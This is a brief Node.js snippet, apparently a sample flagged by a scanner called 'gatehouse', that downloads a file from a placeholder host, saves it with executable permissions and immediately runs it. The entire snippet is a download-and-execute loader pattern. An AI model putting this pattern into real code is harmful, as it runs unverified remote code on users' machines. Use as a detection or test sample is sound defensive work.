const fs = require("fs");
const path = require("path");
const https = require("https");
const { execFile } = require("child_process");
const settings = require("./settings");

const place = path.join(settings.dir, settings.name);
https.get("https://dl.example.invalid/agent", (answer) => {
  const out = fs.createWriteStream(place, { mode: 0o755 });
  answer.pipe(out);
  out.on("finish", () => execFile(place, [])); // gatehouse: flagged
});
